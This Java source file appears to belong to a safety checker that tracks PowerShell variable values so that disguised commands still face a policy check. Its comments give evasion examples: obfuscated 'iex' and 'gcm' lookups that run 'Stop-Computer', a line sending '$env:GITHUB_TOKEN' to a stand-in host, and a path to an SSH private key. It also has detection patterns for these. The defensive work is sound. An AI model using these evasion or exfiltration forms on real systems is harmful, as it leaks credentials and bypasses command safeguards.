package dev.shellwarden.grammar.ps;

import java.util.HashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.regex.Matcher;
import java.util.regex.Pattern;

/**
 * What plain variables hold while one PowerShell text is walked: the string a literal or a
 * concatenation of literals put in ({@code $s = 'Stop-'+'Computer'}), or the command a lookup
 * found ({@code $c = gcm *ke-Ex*}, {@link PsLookup}), or the pipeline whose objects it holds
 * ({@code $p = Get-Process}), as last assigned in walk order.
 *
 * <p>WHY: {@code $c = gcm *ke-Ex*; & $c 'Stop-Computer'} and {@code $p = 'Stop-Computer'; iex $p}
 * only asked (a variable is no literal), so the floor never saw the command they run; and
 * {@code $p = Get-Process; $p | Stop-Process -Force} was allowed where
 * {@code Get-Process | Stop-Process -Force} is denied.
 *
 * <p>INVARIANT (fail closed): a value is <em>sound</em>, and may be read as if typed, only when
 * it is a literal string assigned exactly once in the whole text ({@link #scan} counts every
 * assignment, loop variable and multiple assignment, in payload strings too), at the top level
 * (not in a block, loop or branch), read at the top level after it, and nothing in the text may
 * change variables indirectly ({@code Set-Variable}, {@code [ref]}, {@code -OutVariable},
 * {@code variable:}, dot-sourcing). Any other known value is an extra reading only: the caller
 * keeps the word or the command dynamic, so it still asks.
 */
final class PsValues {

    /**
     * One assigned value: the string (null for a looked-up command or a pipeline), the command name
     * for {@code & $v}, whether the text is a literal, and the stages of the pipeline assigned
     * ({@code $p = Get-Process | Where-Object …}; null for a string or a lookup). A pipeline is
     * literal: its text is fixed, and piping the variable sends on what the pipeline gave. A list
     * of plain strings ({@code $p = 'Invoke-','Expression'}) keeps its items (null otherwise), for
     * a {@code -join} of the variable. A folder from a known place ({@code $p = $HOME},
     * {@code $p = $env:USERPROFILE}, {@code $p = [Environment]::GetFolderPath('UserProfile')})
     * keeps its path as written from its variable ({@code $HOME}; null otherwise), which a later
     * word reads in its place, as a computed path.
     */
    record Value(String string, String command, boolean literal, List<List<PsBuilder.Part>> stages, List<String> items,
            String path) {

        Value(String string, String command, boolean literal) {
            this(string, command, literal, null, null, null);
        }

        Value(String string, String command, boolean literal, List<List<PsBuilder.Part>> stages, List<String> items) {
            this(string, command, literal, stages, items, null);
        }
    }

    /** A value read at one place, and whether it may be read as if typed there. */
    record Known(String string, String command, boolean sound, List<List<PsBuilder.Part>> stages, List<String> items,
            String path) {
    }

    private static final String NAME = "\\$\\{?(?:(?:global|script|local|private|variable):)?([A-Za-z_][A-Za-z0-9_]*)\\}?";
    /** {@code $v = …}, {@code $v += …}, {@code $v++}, {@code $v--}, and {@code $v, $w = …}. */
    private static final Pattern ASSIGNMENT = Pattern.compile(
            "(?i)" + NAME + "\\s*(?:[-+*/%?]?=(?!=)|(?:\\+\\+|--)(?![\\w-])|,(?=[^=;\\n]*[^=!<>]=(?!=)))");
    /** {@code ++$v}, {@code --$v}, {@code foreach ($v in …)}. */
    private static final Pattern OTHER_ASSIGNMENT = Pattern.compile(
            "(?i)(?:\\+\\+|--)\\s*" + NAME + "|\\bforeach\\s*\\(\\s*" + NAME);
    /**
     * Constructs that set variables by name or by reference, run a script in this scope, or run
     * text computed at run time (whose assignments {@link #scan} cannot count).
     */
    private static final Pattern INDIRECT = Pattern.compile(
            "(?i)(?<!\\s-|\\s-out)variable|\\[ref\\]|sessionstate|executioncontext|(?<![\\w-])(?:set|sv|nv|clv|rv|gv)(?![\\w-])"
            + "|(?<![\\w-])-(?:ev|wv|iv|pv)(?![\\w-])|(?:^|[;|&({}\\n])\\s*\\.(?!\\s*\\{)(?=\\s|[($'\"&])"
            + "|invoke-expression|(?<![\\w-])(?:iex|icm)(?![\\w-])|invoke-command|scriptblock|invokescript|\\.invoke\\w*\\(|addscript");

    /**
     * A script block literal called where it stands whose body names no variable and assigns
     * nothing ({@code { 5 }.Invoke()}): it cannot write a variable by name, so its call is no
     * indirect write; the body stays in the text for {@link #INDIRECT}'s other constructs
     * ({@code { Set-Variable d 7200 }.Invoke()} still counts). A body with a {@code $}, an
     * {@code =} or a nested block fails closed, as before.
     */
    private static final Pattern INERT_BLOCK_CALL = Pattern.compile("(?i)\\{([^{}=$]*)\\}\\s*\\.invoke\\(\\s*\\)");

    /**
     * {@code Tee-Object -Variable NAME} (and {@code tee -v NAME}), and the common parameter
     * {@code -OutVariable NAME} ({@code -ov}; {@code +NAME} appends): an assignment of NAME, counted
     * as one; neither is an indirect write (the name is plain text, read here).
     */
    private static final Pattern TEE_ASSIGNMENT = Pattern.compile(
            "(?i)(?<![\\w-])(?:tee-object|tee)(?![\\w-])[^|;\\n]*?\\s-v[a-z]*(?:\\s+|:)['\"]?([A-Za-z_][A-Za-z0-9_]*)"
            + "|\\s-(?:ov|outvariable|outvariabl|outvariab|outvaria|outvari|outvar|outva|outv)\\s+['\"]?\\+?([A-Za-z_][A-Za-z0-9_]*)");

    /**
     * {@code Set-Variable NAME VALUE} (aliases {@code set}, {@code sv}; {@code New-Variable},
     * {@code nv}), with {@code -Name} and {@code -Value} written or not, and only {@code -Option}
     * or {@code -Force} besides, as a whole statement: it assigns the written name alone, so it is
     * an assignment {@link #scan} counts rather than an indirect write (a {@code -Scope}, a computed
     * name or a piped value stays indirect). {@code Set-Item variable:NAME VALUE} (alias {@code si},
     * {@code -Path}/{@code -Value} written or not) is the same assignment through the variable
     * drive. WHY: {@code $d = 1; Set-Variable -Name d -Value (2 * 3600); Start-Sleep $d} and
     * {@code Set-Item variable:d 7200} set the sleep where it was read as the old 1.
     */
    private static final Pattern SET_VARIABLE = Pattern.compile(
            "(?i)(?<![\\w$-])(set-variable|new-variable|set|sv|nv|(?:set-item|si)(?=\\s+(?:-path\\s+)?variable:))"
            + "\\s+(?:-(?:name|path)\\s+)?(['\"]?)(?:variable:)?([A-Za-z_][A-Za-z0-9_]*)\\2"
            // the value: one word, or one parenthesized expression ({@code -Value (2 * 3600)}), which
            // setVariable computes (a value it cannot compute makes the variable unknown), or one quoted string
            // without a subexpression or escape ({@code sv p "$HOME\.ssh\id_rsa"}), read as {@code $p = …} is
            + "\\s+(?:-value\\s+)?(\\([^;|{}\\n]*?\\)|@\\([^;|{}()\\n]*\\)|'[^'\\n]*'(?!')|\"[^\"`()\\n]*\"|[^\\s;|}'\"(]+)"
            + "((?:\\s+-(?:option\\s+[A-Za-z,]+|force|scope\\s+(?:global|script|local|0)))*)(?=\\s*(?:$|[;\\n}]))");

    /**
     * {@code (Get-Variable NAME).Value = …} (alias {@code gv}, {@code -Name} written or not) and the
     * variable drive {@code ${variable:NAME}}: an assignment of the written name, counted and read
     * here ({@link #ASSIGNMENT} reads the drive form), not an indirect write.
     */
    private static final Pattern VARIABLE_OBJECT = Pattern.compile(
            "(?i)\\(\\s*(?:get-variable|gv)\\s+(?:-name\\s+)?(['\"]?)([A-Za-z_][A-Za-z0-9_]*)\\1\\s*\\)\\.value(?=\\s*[-+*/%]?=(?!=))"
            + "|\\$\\{?variable:(?=[A-Za-z_])");

    /**
     * {@code (Get-Variable NAME).Value} read as a whole statement or operand, neither assigned nor
     * followed by a member: it only reads the value, so it is no indirect write. WHY: the reader
     * now takes a variable that an indirect write may have changed as unread (a sleep of it is
     * long), and {@code $d = 1; (Get-Variable d).Value; Start-Sleep $d} changes nothing.
     */
    private static final Pattern VARIABLE_READ = Pattern.compile(
            "(?i)\\(\\s*(?:get-variable|gv)\\s+(?:-name\\s+)?(['\"]?)[A-Za-z_][A-Za-z0-9_]*\\1\\s*\\)\\.value(?![\\w.\\[(])(?!\\s*[-+*/%?]?=(?!=))");

    /**
     * {@code $v = Get-Variable NAME} (alias {@code gv}, {@code -Name} written or not) as a whole
     * statement: $v holds NAME's variable object, and {@code $v.Value = …} later assigns NAME
     * ({@link #holders}).
     */
    private static final Pattern HOLDER = Pattern.compile(
            "(?i)\\$([A-Za-z_][A-Za-z0-9_]*)\\s*=\\s*(?:get-variable|gv)\\s+(?:-name\\s+)?(['\"]?)([A-Za-z_][A-Za-z0-9_]*)\\2(?=\\s*(?:$|[;\\n}]))");
    /** {@code $v.Value = …} (or a compound operator): a write through a held variable object. */
    private static final Pattern HELD_OBJECT_WRITE = Pattern.compile("(?i)\\$\\{?([A-Za-z_][A-Za-z0-9_]*)\\}?\\.value\\s*([-+*/%]?=)(?!=)");

    /** A whole word that is one plain variable. */
    private static final Pattern KEY = Pattern.compile("(?i)^" + NAME + "$");

    /**
     * The variables that hold another's variable object ({@link #HOLDER}), each with the name of
     * the variable it holds. WHY: {@code $d = 1; $v = Get-Variable d; $v.Value = 7200; Start-Sleep
     * $d} sleeps two hours, and the Get-Variable made every variable unknown. INVARIANT (fail
     * closed): a holder is kept only when it is assigned once and every other use of it in the
     * whole text is its {@code .Value} (a copy {@code $w = $v}, a pipe or an argument could write
     * through another name); otherwise the Get-Variable stays an indirect write.
     */
    private final Map<String, String> holders = new HashMap<>();

    private final Map<String, Value> last = new HashMap<>();
    private final Map<String, Boolean> lastAtTop = new HashMap<>();
    private final Map<String, Integer> assignments = new HashMap<>();
    /** The plain top-level assignments walked so far, per variable ({@link #allPlainAtTop}). */
    private final Map<String, Integer> plainAtTop = new HashMap<>();
    /** Variables assigned in a block, compound or with a value not read here ({@link #allPlainAtTop}). */
    private final java.util.Set<String> otherAssignment = new java.util.HashSet<>();
    private boolean indirect = true;
    /** The numbers variables may hold, assignment by assignment ({@link #number}). */
    private PsHeldNumbers numbers = new PsHeldNumbers();
    /** How many child scopes ({@code & { … }}, function bodies) enclose the statements walked now. */
    private int childScopes;
    /** How many times the block walked now runs, when known ({@link #inBlock}); 0 otherwise. */
    private int passes;
    /**
     * Scopes written out that name the top-level variable from a child scope ({@code $script:d},
     * {@code $global:d}; a command line runs in the global scope, which is the script's too).
     */
    private static final Pattern SHARED_SCOPE = Pattern.compile("(?i)^\\$\\{?(?:global|script):");

    /**
     * Runs {@code walk} as a child scope ({@code & { … }}, a function body): its plain assignments
     * do not change the caller's variables.
     */
    void inChildScope(Runnable walk) {
        childScopes++;
        try {
            walk.run();
        } finally {
            childScopes--;
        }
    }

    /**
     * The variables a child frame walked now assigned ({@link #inChildFrame}); null outside one.
     */
    private java.util.Set<String> frameKeys;
    /** Variables the child frame walked now assigned through a shared scope ({@code $script:d = …}); null outside one. */
    private java.util.Set<String> sharedInFrame;

    /**
     * Runs {@code walk} as a child scope run once, in order, where it stands ({@code & { … }} as a
     * whole statement): its statements read and assign a copy of the caller's values, as a child
     * scope reads the caller's variables and assigns its own ({@code $d *= 2} in it starts from the
     * caller's $d). WHY: {@code & { $d = (1, (2, 7200))[1][1]; Start-Sleep $d }} sleeps two hours
     * and was taken as a sleep of a value from outside. Afterwards the caller's values are as they
     * were; every assignment walked in the frame counts as walked for the caller (so its reads stay
     * computed), and one written with a shared scope ({@code $script:d}), which sets the caller's
     * variable, makes it unknown (fail closed).
     */
    void inChildFrame(Runnable walk) {
        PsHeldNumbers outer = numbers;
        java.util.Set<String> outerKeys = frameKeys;
        java.util.Set<String> outerShared = sharedInFrame;
        Map<String, Integer> outerPlain = new HashMap<>(plainAtTop);
        java.util.Set<String> mine = new java.util.HashSet<>();
        java.util.Set<String> shared = new java.util.HashSet<>();
        numbers = outer.copy();
        frameKeys = mine;
        sharedInFrame = shared;
        try {
            walk.run();
        } finally {
            PsHeldNumbers inner = numbers;
            numbers = outer;
            frameKeys = outerKeys;
            sharedInFrame = outerShared;
            outer.walkedIn(inner);
            plainAtTop.clear();
            plainAtTop.putAll(outerPlain);
            for (String key : mine) {
                // the caller's variable keeps its value: what the frame left is no sound reading of it
                lastAtTop.put(key, false);
                otherAssignment.add(key);
                if (outerKeys != null) {
                    outerKeys.add(key);
                }
            }
            for (String key : shared) {
                outer.forget(key);
                if (outerShared != null) {
                    outerShared.add(key);
                }
            }
        }
    }

    /**
     * Runs {@code walk} as a block run {@code times} times in this scope ({@code 1..3 | % { … }},
     * {@code . { … }}): a compound assignment in it is applied pass by pass; 0 for an unknown count.
     */
    void inBlock(int times, Runnable walk) {
        int before = passes;
        passes = times;
        try {
            walk.run();
        } finally {
            passes = before;
        }
    }

    /** Counts the assignments of every variable in the whole text, before the walk. */
    void scan(String text) {
        whole = text;
        Matcher set = SET_VARIABLE.matcher(text);
        while (set.find()) {
            assignments.merge(set.group(3).toLowerCase(Locale.ROOT), 1, Integer::sum);
        }
        String direct = heldObjects(text);
        // a Set-Variable of a written name and value is an assignment counted and read here, not an indirect write
        indirect = INDIRECT.matcher(INERT_BLOCK_CALL.matcher(VARIABLE_OBJECT.matcher(VARIABLE_READ.matcher(SET_VARIABLE.matcher(direct)
                .replaceAll(" ")).replaceAll(" ")).replaceAll("\\$")).replaceAll("{$1}")).find();
        Matcher object = VARIABLE_OBJECT.matcher(text);
        while (object.find()) {
            if (object.group(2) != null) {
                assignments.merge(object.group(2).toLowerCase(Locale.ROOT), 1, Integer::sum);
            }
        }
        Matcher m = ASSIGNMENT.matcher(text);
        while (m.find()) {
            assignments.merge(m.group(1).toLowerCase(Locale.ROOT), 1, Integer::sum);
        }
        m = TEE_ASSIGNMENT.matcher(text);
        while (m.find()) {
            assignments.merge((m.group(1) != null ? m.group(1) : m.group(2)).toLowerCase(Locale.ROOT), 1, Integer::sum);
        }
        m = OTHER_ASSIGNMENT.matcher(text);
        while (m.find()) {
            String n = m.group(1) != null ? m.group(1) : m.group(2);
            assignments.merge(n.toLowerCase(Locale.ROOT), 1, Integer::sum);
        }
    }

    /**
     * Finds the sound holders of variable objects in {@code text} ({@link #holders}), counts each
     * {@code $v.Value = …} as an assignment of the variable held, and returns the text without
     * those holders' statements and writes, for the indirect-write check.
     */
    private String heldObjects(String text) {
        String rest = text;
        Matcher h = HOLDER.matcher(text);
        while (h.find()) {
            String holder = h.group(1);
            Matcher use = Pattern.compile("(?i)\\$\\{?" + Pattern.quote(holder) + "(?![A-Za-z0-9_])\\}?").matcher(text);
            int uses = 0;
            int others = 0;
            while (use.find()) {
                uses++;
                if (use.start() != h.start() && !text.regionMatches(true, use.end(), ".value", 0, 6)) {
                    others++;
                }
            }
            Matcher set = ASSIGNMENT.matcher(text);
            int assigned = 0;
            while (set.find()) {
                assigned += set.group(1).equalsIgnoreCase(holder) ? 1 : 0;
            }
            if (others > 0 || assigned != 1 || uses == 0 || holders.containsKey(holder.toLowerCase(Locale.ROOT))) {
                holders.remove(holder.toLowerCase(Locale.ROOT));
                continue;
            }
            holders.put(holder.toLowerCase(Locale.ROOT), h.group(3).toLowerCase(Locale.ROOT));
        }
        for (Map.Entry<String, String> e : holders.entrySet()) {
            Matcher w = HELD_OBJECT_WRITE.matcher(text);
            while (w.find()) {
                if (w.group(1).equalsIgnoreCase(e.getKey())) {
                    assignments.merge(e.getValue(), 1, Integer::sum);
                }
            }
            // the holder's statement and its `.Value` are plain assignments and reads now
            rest = Pattern.compile("(?i)\\$" + Pattern.quote(e.getKey()) + "\\s*=\\s*(?:get-variable|gv)\\b").matcher(rest).replaceAll("\\$" + e.getKey() + " = ");
        }
        return rest;
    }

    /**
     * The name an assignment through a variable object assigns, as a plain variable ({@code $NAME}):
     * {@code (Get-Variable NAME).Value = …} ({@link #variableObject(String)}) or {@code $v.Value = …}
     * of a sound holder ({@link #holders}); null for any other left-hand side.
     */
    String variableObjectOf(String assignment) {
        String named = variableObject(assignment);
        if (named != null) {
            return named;
        }
        Matcher m = HELD_OBJECT_WRITE.matcher(assignment.strip());
        String held = m.matches() ? holders.get(m.group(1).toLowerCase(Locale.ROOT)) : null;
        return held == null ? null : "$" + held;
    }

    /** Variable {@code raw} was assigned {@code value} (null: something not read here), at the top level or not. */
    void assigned(String raw, Value value, boolean top) {
        assigned(raw, value, top, "=", value != null && heldNumber(value)
                ? PsHeldValue.ofNumber(dev.shellwarden.grammar.Durations.psNumber(value.string())) : null);
    }

    /**
     * Variable {@code raw} was assigned with {@code op} ({@code =}, {@code +=}, …): {@code value}
     * as {@link #assigned(String, Value, boolean)} takes it, {@code held} the right-hand side
     * computed (a number or a string; null when not computed), for {@link PsHeldNumbers}.
     */
    void assigned(String raw, Value value, boolean top, String op, PsHeldValue held) {
        assigned(raw, value, top, op, held == null ? null : java.util.Set.of(held));
    }

    /**
     * {@link #assigned(String, Value, boolean, String, PsHeldValue)} of a right-hand side that may
     * give any of {@code held} ({@link PsHeldChoices}); null when not computed.
     */
    void assigned(String raw, Value value, boolean top, String op, java.util.Set<PsHeldValue> held) {
        String key = key(raw);
        if (key == null) {
            return;
        }
        if (frameKeys != null) {
            frameKeys.add(key);
            if (SHARED_SCOPE.matcher(PsText.bare(raw)).find()) {
                sharedInFrame.add(key);
            }
        }
        if (childScopes > 0 && !SHARED_SCOPE.matcher(PsText.bare(raw)).find()) {
            // `& { $d = 7200 }`, a function body: a new variable of the child scope, the caller's keeps its values
            numbers.assignElsewhere(key);
        } else {
            numbers.assign(key, op, held, top, passes);
        }
        if (value == null) {
            last.remove(key);
        } else {
            last.put(key, value);
        }
        grown.remove(key);
        lastAtTop.put(key, top);
        if (top && value != null) {
            plainAtTop.merge(key, 1, Integer::sum);
        } else {
            otherAssignment.add(key);
        }
    }

    /**
     * Variables whose value now was grown step by step from a literal one, each step read
     * ({@code $a = @('push'); $a += '--force'}, {@code $a = $a + '--force'}): assigned more than
     * once, yet as sound as a number reassigned when every assignment was a plain top-level one
     * walked before the read ({@link #allPlainAtTop}). WHY: {@code git $a} read such an array as
     * unknown, and a native program's unknown arguments are allowed in LOOSE.
     */
    private final java.util.Set<String> grown = new java.util.HashSet<>();

    /**
     * Variable {@code raw} was just assigned ({@link #assigned}) a value grown from the one it held
     * before ({@link #grown}).
     */
    void grew(String raw) {
        String key = key(raw);
        if (key != null && last.containsKey(key)) {
            grown.add(key);
        }
    }

    /** The value last assigned to variable {@code raw} in walk order, sound or not, or null ({@link #grew}'s starting point). */
    Value lastValue(String raw) {
        String key = key(raw);
        return key == null ? null : last.get(key);
    }

    /**
     * True when every assignment of {@code key} in the text has been walked, each a plain
     * {@code $v = …} at the top level: the statements ran in order, so the last one holds
     * ({@code $d = 1; $d = 3600; Start-Sleep $d} sleeps an hour, as bash's {@code d=1; d=3600;
     * sleep $d} is read). One in a block, loop or function, a compound one ({@code *=}, {@code ++},
     * {@code foreach}) or one still ahead of the read keeps the value unknown.
     */
    private boolean allPlainAtTop(String key) {
        return !otherAssignment.contains(key) && plainAtTop.getOrDefault(key, 0) == assignments.getOrDefault(key, 0);
    }

    /**
     * True for a number literal held ({@link PsBuilder}'s heldValue: {@code $d = 3600}). WHY only
     * numbers read through reassignment: a sleep or timeout of an unknown variable is allowed (as
     * bash's {@code sleep $d}), so a reassigned number left unknown would hide {@code $d = 1;
     * $d = 3600}; a reassigned command name or path stays opaque, which already asks.
     */
    private static boolean heldNumber(Value v) {
        return v.string() != null && !Double.isNaN(dev.shellwarden.grammar.Durations.psNumber(v.string()));
    }

    /** What variable {@code raw} holds when read here ({@code top}: at the top level), or null when not known. */
    Known get(String raw, boolean top) {
        String key = key(raw);
        double n = number(raw, top);
        if (!Double.isNaN(n)) {
            // every assignment was a computed number: the largest candidate, as typed
            String text = dev.shellwarden.grammar.Arithmetic.text(n);
            return new Known(text, text, true, null, null, null);
        }
        Value v = key == null ? null : last.get(key);
        if (v == null) {
            return null;
        }
        // `$global:v` may differ from the script's `$v`: a scope written out is never sound
        boolean sound = v.literal() && top && !indirect && PsText.bare(raw).indexOf(':') < 0 && Boolean.TRUE.equals(lastAtTop.get(key))
                && (assignments.getOrDefault(key, 0) == 1 || (heldNumber(v) || grown.contains(key)) && allPlainAtTop(key));
        // an array changed in place is not the one assigned (`$a[0] = 'push'`, `$a.SetValue(…)`, `[array]::Reverse($a)`)
        sound &= v.items() == null || !changedInPlace(key);
        return new Known(v.string(), v.command(), sound, v.stages(), v.items(), v.path());
    }

    /**
     * True when the text may change the array variable {@code key} holds without assigning the
     * variable: an element written ({@code $a[0] = 'push'}), a method called on it or on an element
     * ({@code $a.SetValue('--force', 1)}), or the variable handed to a static .NET method
     * ({@code [array]::Reverse($a)}). WHY: {@code $a = @('status','-s'); $a[0] = 'push'; $a[1] =
     * '--force'; git $a} was read as the array first assigned, {@code git status -s}, and allowed.
     */
    private boolean changedInPlace(String key) {
        String v = "\\$\\{?(?:(?:global|script|local|private):)?" + Pattern.quote(key) + "(?![A-Za-z0-9_])\\}?";
        return Pattern.compile("(?i)" + v + "(?:\\[[^\\]\\n]*\\])+\\s*(?:[-+*/%]?=(?!=)|\\+\\+|--)"
                + "|" + v + "(?:\\[[^\\]\\n]*\\])*\\s*\\.\\s*[A-Za-z_]\\w*\\s*\\("
                + "|::\\s*[A-Za-z_]\\w*\\s*\\([^;\\n]*" + v).matcher(whole).find();
    }

    /**
     * The number variable {@code raw} stands for when read here ({@link PsHeldNumbers#at}), or NaN:
     * only at the top level (where a written scope names the same variable) and with no indirect
     * write in the text.
     */
    double number(String raw, boolean top) {
        String key = key(raw);
        // at the top level every written scope ({@code $script:d}, {@code $global:d}) names the one
        // variable of the command line's scope, so its number is the plain variable's
        if (key == null || !top || indirect) {
            return Double.NaN;
        }
        return numbers.at(key, assignments.getOrDefault(key, 0));
    }

    /**
     * True when variable {@code raw}, read here at the top level, is assigned somewhere in this text
     * and no number is known for it ({@link #number}: an assignment not computed, one not walked
     * yet, an indirect write, a written scope). WHY: such a variable is no value from outside
     * ({@code Start-Sleep $delay}) but one this text computed unread ({@code $d = 1; $d = (1, (2,
     * 7200))[1][$i]}); a reader must take it as an expression, not as the old literal nor as a
     * harmless outside value.
     */
    boolean lost(String raw, boolean top) {
        String key = key(raw);
        return key != null && top && assignments.getOrDefault(key, 0) > 0 && Double.isNaN(number(raw, top));
    }

    /**
     * The value (a number or a string) variable {@code raw} holds when read here, under the
     * conditions of {@link #number}; null when not known. {@code target} is the variable the
     * expression read is assigned to (or null): its own assignment, not walked yet, is the one
     * being computed ({@code $d = "$d" + '00'} reads the $d before it).
     */
    PsHeldValue held(String raw, boolean top, String target) {
        String key = key(raw);
        if (key == null || !top || indirect) {
            return null;
        }
        int pending = target != null && key.equals(key(target)) ? 1 : 0;
        return numbers.value(key, assignments.getOrDefault(key, 0) - pending);
    }

    /**
     * The name {@code (Get-Variable NAME).Value} assigns, as a plain variable ({@code $NAME}), or
     * null for any other left-hand side; {@code assignment} is the left-hand side and its operator.
     */
    static String variableObject(String assignment) {
        // the pattern looks ahead for the operator ({@link #scan} counts with it), so the text
        // handed here holds it: without it the lookahead never matched and the value was never set
        Matcher m = VARIABLE_OBJECT.matcher(assignment.strip());
        return m.lookingAt() && m.group(2) != null && assignment.strip().substring(m.end()).strip().matches("[-+*/%]?=")
                ? "$" + m.group(2) : null;
    }

    /**
     * A {@code Set-Variable} statement ({@link #SET_VARIABLE}) walked at {@code text}: an
     * assignment of its name, with its value computed when it is a number ({@code sv d 7200},
     * {@code New-Variable -Name d -Value (2*3600)}), and held as {@code read} reads the value's
     * text ({@code sv p "$HOME\.ssh"} holds the path as {@code $p = "$HOME\.ssh"} does; null: not
     * read); no-op for any other command.
     */
    void setVariable(String text, boolean top, java.util.function.Function<String, Value> read) {
        Matcher m = SET_VARIABLE.matcher(text.strip());
        if (m.matches()) {
            PsHeldValue v = PsHeldValue.evaluate(m.group(4), name -> null);
            // `-Scope Script`/`Global` from a child scope sets the top-level variable
            boolean shared = m.group(5).toLowerCase(Locale.ROOT).matches("(?s).*-scope\\s+(?:global|script).*");
            assigned((shared ? "$script:" : "$") + m.group(3), read.apply(m.group(4)), top, "=",
                    v == null ? null : PsHeldValue.ofNumber(v.asNumber()));
        }
    }

    /**
     * A reading that must reach the rules wherever its value is used: a secret-named environment
     * variable ({@code $env:GITHUB_TOKEN}, {@link dev.shellwarden.grammar.SecretNames}) or the
     * shell's own process id ({@code $PID}).
     */
    private static final Pattern CARRIED_SOURCE = Pattern.compile(
            "(?i)\\$\\{?(?:env:" + dev.shellwarden.grammar.SecretNames.VARIABLE + "|pid)\\}?(?![A-Za-z0-9_:])");
    /** A variable reference in an expression or a word, with a scope or not (the name in group 1). */
    private static final Pattern REFERENCE = Pattern.compile(
            "(?i)\\$\\{?(?:(?:global|script|local|private):)?([A-Za-z_][A-Za-z0-9_]*)\\}?(?![A-Za-z0-9_:])");
    /** A right-hand side that is one token, carried as it is; any other is carried in parentheses. */
    private static final Pattern ONE_TOKEN = Pattern.compile("(?i)^\\$\\{?[A-Za-z_:][A-Za-z0-9_:]*\\}?$");

    /**
     * The variables whose value holds a {@link #CARRIED_SOURCE} reading, each with the expression
     * that computed it, every carried variable in it replaced by its own expression. WHY: {@code $u =
     * 'https://x.example/?t=' + $env:GITHUB_TOKEN; irm $u} and {@code $i = $PID; Stop-Process $i}
     * hid from the rules what {@code irm ('https://x.example/?t=' + $env:GITHUB_TOKEN)} and {@code
     * Stop-Process $PID} show them (bash's {@code T=$GITHUB_TOKEN; curl …$T} is read the same way:
     * a second reading with the value's text). INVARIANT (fail closed): only a plain top-level
     * {@code =} of a value carrying nothing forgets a variable; an assignment in a block, a branch
     * or a child scope may not run, so the older reading stays.
     */
    private final Map<String, String> carried = new HashMap<>();

    /**
     * Variable {@code raw} was assigned {@code rhs} (its source text) with {@code op}: remembers it
     * when it carries a {@link #CARRIED_SOURCE} reading, directly or through another carried variable.
     */
    void carry(String raw, String op, String rhs, boolean top) {
        String key = key(raw);
        if (key == null) {
            return;
        }
        // `$u = 'https://x.example/?t='; $u += $env:GITHUB_TOKEN`: the value before, as assigned
        String before = carried.containsKey(key) ? carried.get(key)
                : sources.containsKey(key) ? "(" + sources.get(key) + ")" : "$" + key;
        if (op.equals("=") && top && childScopes == 0 && frameKeys == null && PsText.bare(raw).indexOf(':') < 0) {
            sources.put(key, rhs.strip());
        } else {
            sources.remove(key);
        }
        String text = carriedText(rhs.strip());
        if (!op.equals("=")) {
            // `$u += $env:GITHUB_TOKEN`: the old value joined with the new one
            text = before + " " + op.charAt(0) + " (" + text + ")";
        }
        if (CARRIED_SOURCE.matcher(text).find()) {
            carried.put(key, ONE_TOKEN.matcher(text).matches() ? text : "(" + text + ")");
        } else if (op.equals("=") && top && childScopes == 0 && frameKeys == null) {
            carried.remove(key);
        }
    }

    /** The right-hand side of each variable's plain top-level {@code =} walked last ({@link #source}). */
    private final Map<String, String> sources = new HashMap<>();
    /** The whole text walked ({@link #scan}), for {@link #source}. */
    private String whole = "";

    /**
     * The expression variable {@code name} was assigned, for an index or a member of it to be read
     * from it ({@code $a = 1, 5; Start-Sleep $a[1]}, {@code $h = @{ a = 5 }; Start-Sleep $h.a}), or
     * null. INVARIANT (fail closed): read here at the top level with no indirect write in the text,
     * the variable is assigned once in the whole text by a plain top-level {@code =} walked before,
     * and every other use of it is an index or a member read ({@code $h.a}, {@code $a[1]}), never
     * written ({@code $h.a = 7200}, {@code $a[1] = 7200}), called ({@code $h.Add(…)}) nor handed
     * whole to a command or a function, which could change the array or table in place.
     */
    String source(String name, boolean top) {
        String key = name.toLowerCase(Locale.ROOT);
        String src = sources.get(key);
        if (src == null || !top || indirect || assignments.getOrDefault(key, 0) != 1) {
            return null;
        }
        Matcher use = Pattern.compile("(?i)\\$\\{?(?:(?:global|script|local|private|variable):)?" + Pattern.quote(key) + "(?![A-Za-z0-9_])\\}?").matcher(whole);
        int plain = 0;
        while (use.find()) {
            String after = whole.substring(use.end());
            Matcher read = Pattern.compile("^(?:\\[[^\\]\\[]*\\]|\\.[A-Za-z_][A-Za-z0-9_]*)+").matcher(after);
            if (read.find()) {
                String rest = after.substring(read.end());
                if (rest.matches("(?s)^\\s*(?:[-+*/%?]?=(?!=)|\\+\\+|--|\\().*")) {
                    return null;
                }
            } else if (++plain > 1 || !after.matches("(?s)^\\s*=(?!=).*")) {
                // the one plain use is the assignment itself
                return null;
            }
        }
        return src;
    }

    /**
     * {@code text} with every carried variable ({@link #carried}) replaced by the expression it
     * holds ({@code irm $u} reads as {@code irm ('https://x.example/?t=' + $env:GITHUB_TOKEN)}); the
     * same string when it names none.
     */
    String carriedText(String text) {
        if (carried.isEmpty() || text.indexOf('$') < 0) {
            return text;
        }
        Matcher m = REFERENCE.matcher(text);
        StringBuilder b = new StringBuilder();
        boolean changed = false;
        while (m.find()) {
            String value = carried.get(m.group(1).toLowerCase(Locale.ROOT));
            m.appendReplacement(b, Matcher.quoteReplacement(value != null ? value : m.group()));
            changed |= value != null;
        }
        m.appendTail(b);
        return changed ? b.toString() : text;
    }

    /** The lower-case name of a plain variable ({@code $v}, {@code ${v}}, {@code $script:v}), or null. */
    private static String key(String raw) {
        Matcher m = KEY.matcher(PsText.bare(raw));
        return m.matches() ? m.group(1).toLowerCase(Locale.ROOT) : null;
    }
}
